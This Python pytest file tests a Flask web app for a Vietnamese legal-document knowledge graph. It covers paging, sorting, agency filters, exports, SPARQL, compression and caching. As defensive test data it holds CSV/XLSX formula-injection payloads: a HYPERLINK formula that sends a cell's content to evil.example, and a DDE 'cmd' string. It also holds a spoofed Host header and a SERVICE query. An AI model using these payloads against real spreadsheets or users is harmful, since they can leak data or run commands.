"""Issue 13 / 12 on the Flask test client, with a graph-only store (no search
index): paging and sorting, agency kinds and near-duplicates, typed XLSX and
CSV downloads (no formula injection), SPARQL examples agreeing with the pages
they mirror, CSV/TSV results, HTTP compression / caching / negotiation, the
OpenAPI server URL, deadlines, and waitress's own errors with security headers."""
from __future__ import annotations

import csv
import datetime as dt
import gzip
import io
import json
import socket
import threading
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from service import Store
from web import create_app
from web.exports import agency_table, to_csv, to_xlsx
from web.serving import make_server
from web.util import SECURITY_HEADERS

REPO = Path(__file__).resolve().parent.parent
CORPUS = REPO / "data" / "corpus"
HTML = {"Accept": "text/html"}


@pytest.fixture(scope="module")
def gstore(tmp_path_factory):
    s = Store(CORPUS, tmp_path_factory.mktemp("home-graph"))
    s.build(index=False)
    return s


@pytest.fixture(scope="module")
def gapp(gstore):
    return create_app({"STORE": gstore, "WARMUP": False})


@pytest.fixture()
def c(gapp):
    return gapp.test_client()


@pytest.fixture(scope="module")
def svc(gapp):
    return gapp.extensions["legalkg"]


# ------------------------------------------------------------------ lists ---
@pytest.mark.parametrize("path,key", [("/documents.json", "documents"), ("/agencies.json", "agencies")])
def test_paging_reaches_the_last_row(c, path, key):
    whole = c.get(path, query_string={"per": 500}).get_json()
    total = whole["paging"]["total"]
    assert total == len(whole[key]) > 10
    seen = []
    page = 1
    while True:
        d = c.get(path, query_string={"per": 10, "page": page}).get_json()
        assert d["paging"]["total"] == total and d["paging"]["pages"] == -(-total // 10)
        seen += [r["id"] for r in d[key]]
        if page == d["paging"]["pages"]:
            break
        page += 1
    assert seen == [r["id"] for r in whole[key]]          # every row once, same order
    assert c.get(path, query_string={"per": 10, "page": 9999}).get_json()["paging"]["page"] == page


def test_sorting(c):
    docs = c.get("/documents.json", query_string={"per": 500, "sort": "date"}).get_json()["documents"]
    dates = [d["date"] for d in docs if d.get("date")]
    assert dates == sorted(dates, reverse=True)
    ags = c.get("/agencies.json", query_string={"per": 500, "sort": "lead"}).get_json()["agencies"]
    assert [a["lead"] for a in ags] == sorted((a["lead"] for a in ags), reverse=True)
    assert c.get("/documents", query_string={"sort": "nope"}).status_code == 400


def test_agency_kind_filter_and_marks(c):
    d = c.get("/agencies.json", query_string={"per": 500}).get_json()
    kinds = {k for k, _, _ in d["kinds"]}
    assert "so" in kinds
    so = c.get("/agencies.json", query_string={"per": 500, "kind": "so"}).get_json()["agencies"]
    assert so and all(a["kind"] == "so" and a["name"].startswith("Sở") for a in so)
    assert c.get("/agencies", query_string={"kind": "bogus"}).status_code == 400
    groups = [a for a in d["agencies"] if a["collective"]]
    assert groups and all(a["kind"] == "group" for a in groups)
    body = c.get("/agencies", query_string={"per": 500}, headers=HTML).get_data(as_text=True)
    assert "nhóm cơ quan" in body
    # near-duplicates are symmetric
    by_id = {a["id"]: a for a in d["agencies"]}
    for a in d["agencies"]:
        for o in a["near_duplicates"]:
            assert a["id"] in {x["id"] for x in by_id[o["id"]]["near_duplicates"]}


def test_near_duplicate_key():
    from service.pages import agency_key
    assert agency_key("Sở Nội vụ tỉnh Vĩnh Phúc", "Vĩnh Phúc") == agency_key("Sở Nội Vụ", "Vĩnh Phúc")
    assert agency_key("UBND tỉnh", "Vĩnh Phúc") == agency_key("Ủy ban nhân dân tỉnh Vĩnh Phúc", "Vĩnh Phúc")
    assert agency_key("Sở Tư pháp", None) != agency_key("Sở Nội vụ", None)


# ------------------------------------------------------------------ exports --
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")'


def _view(name=HOSTILE):
    task = {"id": "x/1#t1", "kind": "task", "text": "+cmd|' /C calc'!A0", "section": "II", "no": "25",
            "deadline": "Năm 2023", "deadline_start": "2023-01-01", "deadline_end": "2023-12-31",
            "product": "@SUM(1+1)", "lead": [name], "support": ["-2+3"], "status": "past",
            "document": {"id": "x/1", "number": "1/KH-UBND", "type": "Kế hoạch", "date": "2023-02-03",
                         "province": "Vĩnh Phúc", "title": "=1+1"}}
    return {"agency": {"id": "x/a", "name": name, "province": "Vĩnh Phúc"}, "lead": [task], "support": [],
            "counts": {"lead": 1, "support": 0}, "today": "2024-05-06"}


def test_xlsx_no_formula_real_dates_numbers_links():
    data = to_xlsx(agency_table(_view(), "https://kg.example.org"))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet            # no formula anywhere (issue 12.8)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value.startswith("=HYPERLINK") and ws["A1"].data_type == "s"
    header = [c.value for c in ws[3]]
    row = {h: c for h, c in zip(header, ws[4])}
    for cell in ws.iter_rows():
        for c in cell:
            assert c.data_type != "f"
    assert row["Ngày ban hành"].value == dt.datetime(2023, 2, 3) and row["Ngày ban hành"].number_format == "DD/MM/YYYY"
    assert row["Hạn (đến)"].value == dt.datetime(2023, 12, 31)
    assert row["STT"].value == 25 and row["STT"].data_type == "n"
    assert row["Chủ trì"].value == HOSTILE and row["Chủ trì"].data_type == "s"
    assert row["Nhiệm vụ"].data_type == "s" and row["Sản phẩm"].value == "@SUM(1+1)"
    assert row["Liên kết"].hyperlink.target == "https://kg.example.org/task/x/1#t1"
    assert "06/05/2024" in ws["A2"].value                       # dd/mm/yyyy, never ISO


@pytest.mark.parametrize("sep", [",", ";"])
def test_csv_dates_and_injection(sep):
    text = to_csv(agency_table(_view()), sep).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=sep))
    row = dict(zip(rows[0], rows[1]))
    assert row["Ngày ban hành"] == "03/02/2023" and row["Hạn (đến)"] == "31/12/2023"
    assert row["Chủ trì"] == "'" + HOSTILE and row["Nhiệm vụ"].startswith("'+") and row["Phối hợp"] == "'-2+3"
    assert not any("2023-" in cell for r in rows for cell in r)


def test_downloads_from_the_app(c, svc):
    G = svc.graph()
    aid = max((n for n, a in G.nodes(data=True) if a.get("kind") == "agency"),
              key=lambda n: sum(1 for _, _, k in G.in_edges(n, keys=True) if k == "lead"))
    for path in (f"/agency/{aid}.xlsx", "/agencies.xlsx", "/documents.xlsx"):
        r = c.get(path)
        assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet"), path
        ws = load_workbook(io.BytesIO(r.data)).active
        assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)
        assert ws.max_row > 4
    r = c.get(f"/agency/{aid}.csv", query_string={"sep": "semicolon"})
    assert r.mimetype == "text/csv" and r.data.startswith("\ufeff".encode()) and b";" in r.data.split(b"\r\n")[0]
    # Accept: text/csv where a table is shown
    for path in (f"/agency/{aid}", "/agencies", "/documents"):
        r = c.get(path, headers={"Accept": "text/csv"})
        assert r.status_code == 200 and r.mimetype == "text/csv", path
    n = c.get("/documents.json", query_string={"per": 500}).get_json()["paging"]["total"]
    rows = list(csv.reader(io.StringIO(c.get("/documents.csv").data.decode("utf-8-sig"))))
    assert len(rows) == n + 1                               # every row, not one page


# ------------------------------------------------------------------ deadlines --
def test_no_red_badge_without_a_known_status(c, svc):
    G = svc.graph()
    aid = max((n for n, a in G.nodes(data=True) if a.get("kind") == "agency"),
              key=lambda n: sum(1 for _, _, k in G.in_edges(n, keys=True) if k == "lead"))
    v = c.get(f"/agency/{aid}.json").get_json()
    body = c.get(f"/agency/{aid}", query_string={"group": "deadline"}, headers=HTML).get_data(as_text=True)
    assert "đã qua hạn" not in body and 'class="badge late"' not in body
    ended = [t for t in v["lead"] + v["support"] if t["status"] == "past"]
    if ended:
        t = ended[0]
        end = t["deadline_end"]
        assert f"hết thời hạn ({end[8:10]}/{end[5:7]}/{end[:4]})" in body
    assert v["counts"]["open"] + v["counts"]["ended"] + v["counts"]["no_deadline"] == \
        len(v["lead"]) + len(v["support"])
    for g in v["lead_by_deadline"]:
        if g["key"] != "9999":
            assert g["label"].startswith(f"Hạn cuối {g['key'][8:10]}/{g['key'][5:7]}/{g['key'][:4]}")
            assert all(t["deadline_end"] == g["key"] for t in g["tasks"])


# ------------------------------------------------------------------ SPARQL --
def _rows(c, query):
    r = c.get("/sparql", query_string={"query": query})
    assert r.status_code == 200, r.data[:300]
    return r.get_json()["results"]["bindings"]


def _examples(svc):
    return {e["id"]: e for e in svc.sparql_examples()}


def test_sparql_most_cited_agrees_with_home(c, svc):
    rows = _rows(c, _examples(svc)["most-cited"]["query"])
    got = {svc.iri_to_id(r["doc"]["value"])[1]: int(r["n"]["value"]) for r in rows}
    home = c.get("/index.json").get_json()["most_cited"]
    for d in home:
        if d["id"] in got:
            assert got[d["id"]] == d["in_degree"], d["id"]
    assert max(got.values()) == home[0]["in_degree"]
    top = c.get("/api/top", query_string={"n": 100}).get_json()
    indeg = {d["id"]: d["in_degree"] for d in top}
    assert all(indeg[k] == v for k, v in got.items())


def test_sparql_agency_tasks_agree_with_agency_page(c, svc):
    rows = _rows(c, _examples(svc)["agency-tasks"]["query"])
    assert rows
    by_org: dict = {}
    for r in rows:
        by_org.setdefault(svc.iri_to_id(r["org"]["value"])[1], set()).add(svc.iri_to_id(r["task"]["value"])[1])
    for aid, tasks in by_org.items():
        page = c.get(f"/agency/{aid}.json").get_json()
        assert tasks == {t["id"] for t in page["lead"]}, aid


def test_sparql_implementing_agrees_with_document_page(c, svc):
    rows = _rows(c, _examples(svc)["implementing"]["query"])
    doc = c.get("/doc/61/2018/NĐ-CP.json", follow_redirects=True).get_json()
    group = next(g for g in doc["incoming_groups"] if g["relation"] == "implements")
    assert {svc.iri_to_id(r["doc"]["value"])[1] for r in rows} == {i["document"]["id"] for i in group["items"]}
    assert rows


def test_sparql_quarter_deadlines_agree_with_agency_pages(c, svc):
    ex = _examples(svc)["quarter-deadlines"]
    rows = _rows(c, ex["query"])
    got = {(svc.iri_to_id(r["task"]["value"])[1], r["end"]["value"]) for r in rows}
    want = set()
    for a in c.get("/agencies.json", query_string={"per": 500}).get_json()["agencies"]:
        if not a["lead"]:
            continue
        for t in c.get(f"/agency/{a['id']}.json").get_json()["lead"]:
            if t["kind"] == "task" and t["deadline_end"] and "2023-10-01" <= t["deadline_end"] <= "2023-12-31":
                want.add((t["id"], t["deadline_end"]))
    assert got == want and got


def test_sparql_based_on_and_page(c, svc):
    rows = _rows(c, _examples(svc)["based-on"]["query"])
    assert rows
    body = c.get("/sparql", headers=HTML).get_data(as_text=True)
    for e in svc.sparql_examples():
        assert f'data-example="{e["id"]}"' in body
    assert "eli:id_local" in body and 'method="get"' in body


def test_sparql_csv_tsv_and_vietnamese_errors(c, svc):
    q = _examples(svc)["most-cited"]["query"]
    r = c.get("/sparql", query_string={"query": q, "format": "csv"})
    assert r.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(r.data.decode())))
    assert rows[0] == ["doc", "number", "n"] and rows[1][0].startswith("http")
    r = c.get("/sparql", query_string={"query": q}, headers={"Accept": "text/tab-separated-values"})
    lines = r.data.decode().splitlines()
    assert r.mimetype == "text/tab-separated-values" and lines[0] == "?doc\t?number\t?n" and lines[1].startswith("<http")
    body = c.get("/sparql", query_string={"query": q}, headers=HTML).get_data(as_text=True)
    assert 'id="share-link"' in body and "format=csv" in body
    for bad, words in [("SELEC x", "Lỗi cú pháp"), ("SELECT * WHERE { ?s foo:bar ?o }", "Tiền tố"),
                       ("INSERT DATA { <a:a> <a:b> <a:c> }", "chỉ đọc"),
                       ("SELECT * WHERE { SERVICE <http://x/> { ?s ?p ?o } }", "SERVICE")]:
        r = c.get("/sparql", query_string={"query": bad})
        assert r.status_code == 400 and words in r.get_json()["message"], (bad, r.get_json())


def test_sparql_limit_overflow_is_clean(c):
    for q in ["SELECT * WHERE { ?s ?p ?o } LIMIT 99999999999999999999",
              "SELECT ?s WHERE { ?s ?p ?o } OFFSET 99999999999999999999 LIMIT 3"]:
        r = c.get("/sparql", query_string={"query": q})
        assert r.status_code == 200, r.data[:200]
        assert b"islice" not in r.data and b"maxsize" not in r.data


# ------------------------------------------------------------------ HTTP ----
def test_compression_and_negotiation(c):
    doc = "/doc/vinh-phuc/319-kh-ubnd"
    plain = c.get(doc, headers=HTML)
    r = c.get(doc, headers={"Accept": "text/html", "Accept-Encoding": "gzip"})
    assert r.headers["Content-Encoding"] == "gzip" and "Accept-Encoding" in r.headers["Vary"]
    assert gzip.decompress(r.data) == plain.data and len(r.data) < len(plain.data) / 3
    r = c.get(doc, headers={"Accept": "text/html", "Accept-Encoding": "br, gzip"})
    assert r.headers["Content-Encoding"] in ("br", "gzip")
    r = c.get("/index.json", headers={"Accept-Encoding": "gzip"})
    assert r.headers.get("Content-Encoding") == "gzip" and json.loads(gzip.decompress(r.data))
    for accept in ("*/*", "", "text/html,*/*;q=0.8"):
        r = c.get(doc, headers={"Accept": accept} if accept else {})
        assert r.mimetype == "text/html", accept
    assert c.get(doc, headers={"Accept": "text/turtle"}).mimetype == "text/turtle"


def test_static_files_are_cacheable(c):
    body = c.get("/", headers=HTML).get_data(as_text=True)
    import re
    href = re.search(r'href="(/static/style\.css\?v=[0-9a-f]+)"', body).group(1)
    r = c.get(href)
    assert r.status_code == 200 and "immutable" in r.headers["Cache-Control"] and r.headers.get("ETag")
    assert c.get(href, headers={"If-None-Match": r.headers["ETag"]}).status_code == 304
    assert "max-age=3600" in c.get("/static/style.css").headers["Cache-Control"]


def test_openapi_ignores_host_header(gstore):
    app = create_app({"STORE": gstore, "WARMUP": False, "BASE_URL": "https://kg.gov.example"})
    c = app.test_client()
    spec = c.get("/openapi.json", headers={"Host": "evil.example"}).get_json()
    assert spec["servers"] == [{"url": "https://kg.gov.example"}]
    assert b"evil.example" not in c.get("/api", headers={"Host": "evil.example", **HTML}).data
    plain = create_app({"STORE": Store(CORPUS, gstore.home), "WARMUP": False}).test_client()
    assert plain.get("/openapi.json", headers={"Host": "evil.example"}).get_json()["servers"] == [{"url": "/"}]


def test_waitress_errors_carry_security_headers(gapp):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    srv = make_server(gapp, "127.0.0.1", port, threads=2, max_request_header_size=16384)
    t = threading.Thread(target=srv.run, daemon=True)
    t.start()
    try:
        def raw(req: bytes) -> str:
            deadline = time.time() + 10
            while True:
                try:
                    k = socket.create_connection(("127.0.0.1", port), timeout=10)
                    break
                except ConnectionRefusedError:
                    if time.time() > deadline:
                        raise
                    time.sleep(0.1)
            data = b""
            with k:
                try:
                    for i in range(0, len(req), 4096):       # a slow client: the answer may come mid-way
                        k.sendall(req[i:i + 4096])
                        time.sleep(0.002)
                except (ConnectionResetError, BrokenPipeError):
                    pass
                while True:
                    try:
                        chunk = k.recv(65536)
                    except ConnectionResetError:             # closed on us after the answer
                        break
                    if not chunk:
                        break
                    data += chunk
            return data.decode("latin-1")
        for req, status in [(b"GET / HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 20_000 + b"\r\n\r\n", "431"),
                            (b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: zz\r\n\r\n", "400"),
                            (b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", "200")]:
            resp = raw(req)
            head = resp.split("\r\n\r\n", 1)[0].lower()
            assert head.split()[1] == status, head[:200]
            for k, v in SECURITY_HEADERS:
                assert f"{k.lower()}: {v.lower()}" in head, (status, k)
    finally:
        srv.close()
